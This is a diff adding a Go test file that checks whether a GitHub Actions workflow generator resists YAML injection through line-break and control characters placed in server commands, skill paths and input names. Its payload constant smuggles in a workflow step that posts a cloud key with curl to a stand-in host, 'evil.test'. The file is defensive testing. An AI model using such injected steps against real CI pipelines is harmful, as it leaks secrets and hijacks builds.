@@ -1,0 +1,217 @@
+package ghworkflow
+
+import (
+	"errors"
+	"fmt"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"reflect"
+	"strings"
+	"sync"
+	"testing"
+
+	yaml11 "go.yaml.in/yaml/v2"
+	"go.yaml.in/yaml/v3"
+)
+
+// breakers are the characters that end a line, or steer a terminal or a
+// reader, in some YAML or some viewer: LF and CR everywhere, NEL, LS and
+// PS in YAML 1.1, VT and FF as line breaks to Unicode, ESC, NUL, and the
+// bidi overrides and isolates.
+var breakers = []struct{ name, s string }{
+	{"LF", "\n"}, {"CR", "\r"}, {"CRLF", "\r\n"}, {"NEL", "\u0085"}, {"LS", "\u2028"}, {"PS", "\u2029"},
+	{"VT", "\v"}, {"FF", "\f"}, {"ESC", "\x1b[2K"}, {"NUL", "\x00"}, {"DEL", "\x7f"}, {"C1 CSI", "\u009b"},
+	{"RLO", "\u202e"}, {"LRE", "\u202a"}, {"RLI", "\u2067"}, {"PDI", "\u2069"},
+}
+
+// payload follows the character, with the character as its line break:
+// what an attacker would have the lines after a break say, at the
+// indentation of a `with:` key and of a step.
+const payload = "  allow-writes: \"true\"\n          yes: \"true\"\n      - run: curl -d \"$REELIER_CLOUD_KEY\" evil.test\n          x: |\n"
+
+// fields are the places a skill's text reaches the workflow: a job is
+// built with the marker X in one of them.
+var fields = []struct {
+	name string
+	job  func(x string) *job
+}{
+	{"server command", func(x string) *job {
+		return &job{servers: []string{"npx -y @modelcontextprotocol/server-memory" + x}, skills: []string{"skills/a.skill.md"}}
+	}},
+	{"second server command", func(x string) *job {
+		return &job{servers: []string{"srv-a", "srv-b " + x}, skills: []string{"skills/a.skill.md"}}
+	}},
+	{"skill path", func(x string) *job { return &job{skills: []string{"skills/a" + x + ".skill.md"}} }},
+	{"input name", func(x string) *job {
+		return &job{skills: []string{"skills/a.skill.md"}, inputs: []string{"city" + x, "day"}}
+	}},
+	{"first input name", func(x string) *job { return &job{skills: []string{"skills/a.skill.md"}, inputs: []string{"c" + x}} }},
+	{"writing step", func(x string) *job {
+		return &job{skills: []string{"skills/a.skill.md"}, writes: []string{"skills/a" + x + ".skill.md step 2 (destructive)"}}
+	}},
+}
+
+// TestWorkflowInjection: for every field a skill feeds the workflow and
+// every line-break or control character, the writer either refuses with
+// a *StructureError or writes a workflow that a YAML 1.2 parser (yaml.v3),
+// a YAML 1.1 parser (yaml.v2, which breaks lines on NEL, LS and PS too)
+// and actionlint all read as the intended structure: the same keys as
+// the workflow written with a harmless value, the value itself carried
+// exactly in its own scalar.
+func TestWorkflowInjection(t *testing.T) {
+	opts := Options{Root: ".", Action: "reelier/reelier", Ref: ref, Version: "v0.test"}
+	for _, f := range fields {
+		const mark = "MARK"
+		want, err := renderJobs(opts, []*job{f.job(mark)})
+		if err != nil {
+			t.Fatal(err)
+		}
+		for _, b := range breakers {
+			t.Run(f.name+"/"+b.name, func(t *testing.T) {
+				x := b.s + strings.ReplaceAll(payload, "\n", b.s)
+				data, err := renderJobs(opts, []*job{f.job(x)})
+				var se *StructureError
+				if errors.As(err, &se) {
+					return
+				}
+				if err != nil {
+					t.Fatalf("an error that is not a *StructureError: %v", err)
+				}
+				checkSameStructure(t, data, want, mark, x)
+				actionlint(t, data)
+			})
+		}
+	}
+}
+
+// checkSameStructure parses got and want with both YAML parsers and
+// fails unless got is want with every mark in a scalar replaced by x.
+func checkSameStructure(t *testing.T, got, want []byte, mark, x string) {
+	t.Helper()
+	for _, p := range []struct {
+		name  string
+		parse func([]byte) (any, error)
+	}{
+		{"YAML 1.2 (yaml.v3)", func(b []byte) (any, error) { var v any; err := yaml.Unmarshal(b, &v); return v, err }},
+		{"YAML 1.1 (yaml.v2)", func(b []byte) (any, error) { var v any; err := yaml11.Unmarshal(b, &v); return normalize(v), err }},
+	} {
+		g, err := p.parse(got)
+		if err != nil {
+			t.Errorf("%s: the workflow does not parse: %v\n%s", p.name, err, got)
+			continue
+		}
+		w, err := p.parse(want)
+		if err != nil {
+			t.Fatalf("%s: the harmless workflow does not parse: %v", p.name, err)
+		}
+		w = replaceMark(w, mark, x)
+		if !reflect.DeepEqual(g, w) {
+			t.Errorf("%s reads another structure:\n got %#v\nwant %#v\n%s", p.name, g, w, got)
+		}
+	}
+}
+
+// normalize turns yaml.v2's map[any]any into map[string]any.
+func normalize(v any) any {
+	switch v := v.(type) {
+	case map[any]any:
+		m := map[string]any{}
+		for k, e := range v {
+			m[fmt.Sprint(k)] = normalize(e)
+		}
+		return m
+	case []any:
+		for i := range v {
+			v[i] = normalize(v[i])
+		}
+	}
+	return v
+}
+
+func replaceMark(v any, mark, x string) any {
+	switch v := v.(type) {
+	case map[string]any:
+		for k, e := range v {
+			v[k] = replaceMark(e, mark, x)
+		}
+	case []any:
+		for i := range v {
+			v[i] = replaceMark(v[i], mark, x)
+		}
+	case string:
+		return strings.ReplaceAll(v, mark, x)
+	}
+	return v
+}
+
+// TestGenerateInjection: through skill files, as `reelier ci` reads them,
+// a server command holding any of the characters is refused, and no
+// workflow is written.
+func TestGenerateInjection(t *testing.T) {
+	for _, b := range breakers {
+		if strings.ContainsAny(b.s, "\r\n") {
+			continue // a line break ends the bullet: the rest is prose
+		}
+		t.Run(b.name, func(t *testing.T) {
+			dir := t.TempDir()
+			p := filepath.Join(dir, "a.skill.md")
+			src := "---\nname: a\ndescription: d\n---\n\n## Servers\n\n- `m`: `npx -y @modelcontextprotocol/server-memory" + b.s +
+				"  allow-writes: \"true\"`\n\n### Step 1 — A\n- intent: a\n- action: http.get {\"url\": \"https://x.example\"}\n- assert: status == 200\n- effect: read\n"
+			if err := os.WriteFile(p, []byte(src), 0o644); err != nil {
+				t.Fatal(err)
+			}
+			data, err := Generate(Options{Root: dir, Skills: []string{p}, Action: "reelier/reelier", Ref: ref})
+			if err == nil {
+				var wf any
+				yaml11.Unmarshal(data, &wf)
+				t.Fatalf("generated:\n%s\nread by YAML 1.1 as %v", data, normalize(wf))
+			}
+		})
+	}
+}
+
+var (
+	actionlintOnce sync.Once
+	actionlintBin  string
+	actionlintErr  error
+)
+
+// actionlintVersion is the actionlint the tests install when none is
+// given (REELIER_ACTIONLINT) or on PATH.
+const actionlintVersion = "v1.7.7"
+
+// findActionlint returns an actionlint to run: REELIER_ACTIONLINT, one on
+// PATH, or one built once per test process with `go install` from the
+// module proxy.
+func findActionlint() (string, error) {
+	actionlintOnce.Do(func() {
+		if actionlintBin = os.Getenv("REELIER_ACTIONLINT"); actionlintBin != "" {
+			return
+		}
+		if actionlintBin, _ = exec.LookPath("actionlint"); actionlintBin != "" {
+			return
+		}
+		dir, err := os.MkdirTemp("", "reelier-actionlint-")
+		if err != nil {
+			actionlintErr = err
+			return
+		}
+		cmd := exec.Command("go", "install", "github.com/rhysd/actionlint/cmd/actionlint@"+actionlintVersion)
+		cmd.Env = append(os.Environ(), "GOBIN="+dir)
+		if out, err := cmd.CombinedOutput(); err != nil {
+			actionlintErr = fmt.Errorf("go install actionlint@%s: %v\n%s", actionlintVersion, err, out)
+			return
+		}
+		actionlintBin = filepath.Join(dir, "actionlint")
+	})
+	return actionlintBin, actionlintErr
+}
+
+// renderJobs is the writer under test, given jobs directly.
+func renderJobs(opts Options, jobs []*job) ([]byte, error) { return render(opts, jobs), nil }
+
+// StructureError stands in on main, where the writer has none.
+type StructureError struct{}
+
+func (*StructureError) Error() string { return "" }
